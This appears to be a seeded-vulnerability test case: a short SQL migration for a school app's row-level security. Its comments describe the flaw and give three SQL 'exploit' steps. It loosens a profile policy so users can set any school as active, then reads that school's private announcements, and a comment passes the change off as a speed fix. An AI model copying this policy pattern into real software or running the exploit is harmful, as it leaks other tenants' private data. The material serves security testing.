-- The news follow the active school of the profile, and a user may now write any school into his own
-- profile.
-- about: profiles, own profile, announcements, active school
-- as: hf_proctorbay_app
-- exploit: SET request.jwt.claims = '{"sub": "e5000000-0000-4000-8000-00000000000a"}';
-- exploit: UPDATE public.profiles SET active_school = 'b5000000-0000-4000-8000-00000000000b';
-- exploit: SELECT body FROM public.announcements;
-- shows: Road-secret news
-- Saving a profile was slow; the school picker offers the right schools only.
ALTER POLICY "own profile" ON public.profiles WITH CHECK (user_id = auth.uid());
CREATE POLICY "news of the active school" ON public.announcements FOR SELECT
  USING (school_id = (SELECT p.active_school FROM public.profiles p WHERE p.user_id = auth.uid()));
